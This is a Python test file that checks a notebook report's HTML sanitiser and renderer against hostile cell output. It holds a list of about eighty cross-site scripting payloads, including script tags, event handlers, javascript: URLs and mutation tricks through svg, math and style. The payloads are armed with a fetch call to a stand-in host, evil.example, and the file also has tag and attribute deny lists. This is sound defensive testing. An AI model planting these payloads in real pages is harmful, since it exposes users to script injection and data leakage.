"""Hostile HTML from a cell: what the report makes of it has nothing that runs, and nothing that asks for anything.

The notebook of a record keeps what a cell has put out as it was: it is data, and JupyterLab cleans what it does not
trust. The report is what people open, so the report is held to this.
"""

# ruff: noqa: E501 -- payloads are written as an attacker would

import functools
import http.server
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from ops_lib.notebooks.cleaning import clean_html
from ops_lib.notebooks.report import render_report

# Each asks for ADDRESS or runs RUN where a reader lets it.
PAYLOADS = [
    "<script>RUN</script>", "<ScRiPt>RUN</sCrIpT>", "<script src=//ADDRESS/a.js></script>", "<script/src=ADDRESS></script>",
    "<scr<script>ipt>RUN</scr</script>ipt>", "<script>RUN", "</style><script>RUN</script>", "</pre></div><script>RUN</script>",
    "<img src=x onerror=RUN>", "<img src=x OnErRoR='RUN'>", "<img/src=x/onerror=RUN>", "<img src=x onerror\x0c=RUN>",
    "<img src='ADDRESS/a.png'>", "<img srcset='ADDRESS/b.png 1x'>", "<img src=//ADDRESS/c.png>", "<image src=ADDRESS/d.png>",
    "<img src='data:text/html,<script>RUN</script>'>", "<img src='data:image/svg+xml,<svg onload=RUN>'>", "<img lowsrc=ADDRESS>",
    "<body onload=RUN>", "<div onmouseover=RUN style=position:fixed;inset:0>x</div>", "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>", "<marquee onstart=RUN>x</marquee>", "<video><source onerror=RUN></video>", "<audio src=ADDRESS onerror=RUN>",
    "<a href='javascript:RUN'>x</a>", "<a href='JaVaScRiPt:RUN'>x</a>", "<a href=' \x01javascript:RUN'>x</a>", "<a href='java\tscript:RUN'>x</a>",
    "<a href='&#106;avascript:RUN'>x</a>", "<a href='data:text/html,<script>RUN</script>'>x</a>", "<a href='vbscript:RUN'>x</a>",
    "<a ping=ADDRESS href=https://x.example>x</a>", "<a href=https://x.example target=_blank onclick=RUN>x</a>",
    "<svg onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x></svg>",
    "<svg><use href='ADDRESS/x.svg#a'></svg>", "<svg><image href=ADDRESS></svg>", "<svg><a xlink:href='javascript:RUN'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>", "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
    "<math><mi xlink:href='javascript:RUN'>x</mi></math>", "<math href='javascript:RUN'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>", "<listing>&lt;img onerror=RUN src=x&gt;</listing>",
    "<template><script>RUN</script></template>", "<template shadowrootmode=open><img src=x onerror=RUN></template>",
    "<style>@import 'ADDRESS/a.css'; body{background:url(ADDRESS/b.png)}</style>", "<div style='background:url(ADDRESS/c.png)'>x</div>",
    "<div style='width:expression(RUN)'>x</div>", "<p style='-moz-binding:url(ADDRESS)'>x</p>", "<link rel=stylesheet href=ADDRESS/a.css>",
    "<link rel=prefetch href=ADDRESS>", "<meta http-equiv=refresh content='0;url=ADDRESS'>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base href=ADDRESS/>", "<iframe src=ADDRESS></iframe>", "<iframe srcdoc='<script>RUN</script>'></iframe>", "<iframe src='javascript:RUN'>",
    "<object data=ADDRESS></object>", "<object data='javascript:RUN'></object>", "<embed src=ADDRESS>", "<applet code=ADDRESS></applet>",
    "<form action=ADDRESS><button formaction='javascript:RUN'>x</button></form>", "<isindex action='javascript:RUN' type=submit>",
    "<table background=ADDRESS/t.png><td background=ADDRESS/u.png>x</td></table>", "<frameset onload=RUN><frame src=ADDRESS></frameset>",
    "<xmp><img src=x onerror=RUN></xmp>", "<plaintext><img src=x onerror=RUN>", "<!--><img src=x onerror=RUN>-->", "<![CDATA[><img src=x onerror=RUN>]]>",
    "<?xml-stylesheet href=ADDRESS?>", "<portal src=ADDRESS>", "<track src=ADDRESS>", "<bgsound src=ADDRESS>", "<dialog open onclose=RUN>x</dialog>",
]  # fmt: skip
LOADS = frozenset(
    {
        "src",
        "srcset",
        "href",
        "xlink:href",
        "data",
        "action",
        "formaction",
        "background",
        "ping",
        "poster",
        "lowsrc",
        "srcdoc",
        "style",
    }
)
FORBIDDEN = frozenset(
    [
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "applet",
        "link",
        "meta",
        "base",
        "form",
        "input",
        "button",
        "template",
        "svg",
        "math",
        "video",
        "audio",
        "source",
        "track",
        "frame",
        "frameset",
        "portal",
        "bgsound",
        "isindex",
        "noscript",
        "xmp",
        "plaintext",
        "listing",
        "marquee",
        "dialog",
        "image",
    ]
)


class Elements(HTMLParser):
    """The elements of a page with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str, *, but: frozenset[str] = frozenset()) -> None:
    """Nothing that runs, and nothing that a browser loads by itself."""
    for tag, attributes in Elements(html).found:
        assert tag not in FORBIDDEN - but, tag
        assert not [name for name in attributes if name.startswith("on")], attributes
        loads = {name: value or "" for name, value in attributes.items() if name in LOADS}
        if tag == "a":
            assert loads.pop("href", "#").lower().startswith(("#", "http://", "https://", "mailto:")), attributes
        if tag == "img":
            assert loads.pop("src", "data:image/").startswith("data:image/"), attributes
        assert not loads, (tag, attributes)


def armed(payload: str, address: str = "http://evil.example") -> str:
    return payload.replace("RUN", "fetch('ADDRESS/ran')").replace("ADDRESS", address)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_cleaned(payload: str) -> None:
    """Alone, inside a table as pandas writes it, and cleaned a second time, which must change nothing."""
    for html in (armed(payload), f"<table><tr><td>{armed(payload)}</td></tr></table>"):
        cleaned = str(clean_html(html))
        assert_harmless(cleaned)
        assert str(clean_html(cleaned)) == cleaned


def hostile(address: str) -> dict[str, Any]:
    """A notebook whose cell shows every payload in every form that a report shows."""
    outputs: list[dict[str, Any]] = []
    for payload in PAYLOADS:
        bad = armed(payload, address)
        svg = f"<svg xmlns='http://www.w3.org/2000/svg'><text>x</text>{bad}</svg>"
        outputs += [
            {"output_type": "display_data", "data": {"text/html": f"<b>seen</b>{bad}"}, "metadata": {}},
            {"output_type": "display_data", "data": {"text/markdown": f"seen {bad}\n\n[x](javascript:x) ![y]({address}/y)"}, "metadata": {}},
            {"output_type": "display_data", "data": {"image/svg+xml": svg, "text/plain": bad}, "metadata": {}},
            {"output_type": "stream", "name": "stdout", "text": bad},
            {"output_type": "error", "ename": bad, "evalue": bad, "traceback": [bad]},
        ]  # fmt: skip
    groups = [outputs[place : place + 40] for place in range(0, len(outputs), 40)]
    cells = [
        {"cell_type": "code", "id": f"c{number}", "metadata": {}, "source": "1", "outputs": group}
        for number, group in enumerate(groups)
    ]
    prose = {
        "cell_type": "markdown",
        "id": "m",
        "metadata": {},
        "source": "\n\n".join(armed(p, address) for p in PAYLOADS),
    }
    return {"cells": [prose, *cells]}


def test_a_report_of_nothing_but_payloads_is_harmless(record: dict[str, Any]) -> None:
    """All of them in one page, in prose, HTML, Markdown, pictures, text and errors."""
    html = render_report(record, hostile("http://evil.example"))
    assert_harmless(html, but=frozenset({"style", "meta"}))
    tags = [tag for tag, _ in Elements(html).found]
    assert (tags.count("style"), tags.count("meta")) == (1, 5)
    assert html.count("<b>seen</b>") > len(PAYLOADS) // 2


@pytest.fixture
def listening() -> Iterator[tuple[str, list[str]]]:
    """An address on this machine, and what is asked of it."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=functools.partial(server.serve_forever, 0.05))
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    thread.join()
    server.server_close()


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


def opened(page: Path, home: Path) -> str:
    """The document that a real browser makes of a page, after what it loads and runs."""
    assert CHROMIUM
    options = ["--headless", "--disable-gpu", "--no-sandbox", f"--user-data-dir={home}", "--virtual-time-budget=3000"]
    done = subprocess.run(
        [CHROMIUM, *options, "--dump-dom", page.as_uri()],
        capture_output=True, text=True, timeout=60, check=True, env={**os.environ, "HOME": str(home)},
    )  # fmt: skip
    return done.stdout


@pytest.mark.skipif(not CHROMIUM, reason="no chromium here: the report was not opened in a real browser")
def test_a_browser_runs_nothing_and_asks_for_nothing(
    record: dict[str, Any], listening: tuple[str, list[str]], tmp_path: Path
) -> None:
    """The report with its policy, the report without it, and as a control a page that was never cleaned."""
    address, asked = listening
    html = render_report(record, hostile(address))
    (tmp_path / "report.html").write_text(html)
    assert "<b>seen</b>" in opened(tmp_path / "report.html", tmp_path / "home")
    (tmp_path / "open.html").write_text(
        html.replace("default-src 'none'", "default-src * 'unsafe-inline'").replace("img-src data:", "img-src *")
    )
    opened(tmp_path / "open.html", tmp_path / "home")
    assert asked == []
    (tmp_path / "control.html").write_text("".join(armed(payload, address) for payload in PAYLOADS[:20]))
    opened(tmp_path / "control.html", tmp_path / "home")
    assert "/ran" in asked, "the control shows that this browser would have run and asked"
